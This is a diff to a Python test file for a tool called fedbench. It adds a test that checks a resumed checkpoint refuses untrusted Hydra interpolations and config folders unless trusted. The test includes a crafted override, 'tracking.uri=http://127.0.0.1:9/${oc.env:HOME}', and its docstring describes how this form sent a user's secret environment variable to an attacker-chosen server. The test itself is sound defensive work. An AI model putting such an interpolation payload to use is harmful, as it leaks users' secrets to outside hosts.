@@ -4,6 +4,8 @@ before Hydra composes it (an appended hydra callback ran code at the resume)."""
 
 from __future__ import annotations
 
+import re
+
 import pytest
 import torch
 
@@ -92,6 +94,32 @@ def test_a_checkpoint_without_a_keyed_digest_takes_no_hydra_settings_and_no_code
         with pytest.raises(ConfigError, match=f"sets '{lines[-1].replace('+', '.')}'.* use fedbench resume --trust"):
             verify(run_dir, old, lines, None, [])
         verify(run_dir, old, lines, None, [], trust=True)
+
+
+@pytest.mark.parametrize("saved", ["none", "unkeyed"])
+def test_a_checkpoint_without_a_keyed_digest_takes_no_interpolation_and_no_config_folder(finished, tmp_path, saved):
+    """A handed-over folder of an earlier version's checkpoint: `tracking.uri=http://host/${oc.env:SECRET}` sent this
+    user's variable to a server of the folder's choosing, and a config folder it names (FEDBENCH_CONF, --config-dir)
+    composed its files' hydra.callbacks. Each is refused unless trusted."""
+    from fedbench.core.errors import ConfigError
+    from fedbench.runs.recorded import read_overrides, unkeyed_digest, verify
+
+    _, run_dir = finished
+    recorded = read_overrides(run_dir / ".hydra" / "overrides.yaml")
+    payload = torch.load(run_dir / "checkpoint.pt", weights_only=True)
+    old = tmp_path / "checkpoint.pt"
+    leak = [*recorded, "tracking.uri=http://127.0.0.1:9/${oc.env:HOME}"]
+    for lines, conf, dirs, needle in ((leak, None, [], "an interpolation"),
+                                      (recorded, str(tmp_path), [], f"names the config folder {tmp_path}"),
+                                      (recorded, None, [str(tmp_path)], f"names the config folder {tmp_path}")):
+        if saved == "none":
+            payload.pop("recorded_digest", None)
+        else:
+            payload["recorded_digest"] = unkeyed_digest(lines, conf, dirs)
+        torch.save(payload, old)
+        with pytest.raises(ConfigError, match=f"{re.escape(needle)}.* use fedbench resume --trust"):
+            verify(run_dir, old, lines, conf, dirs)
+        verify(run_dir, old, lines, conf, dirs, trust=True)
 
 
 def test_a_record_signed_with_another_key_is_refused_unless_trusted(finished, tmp_path, monkeypatch):
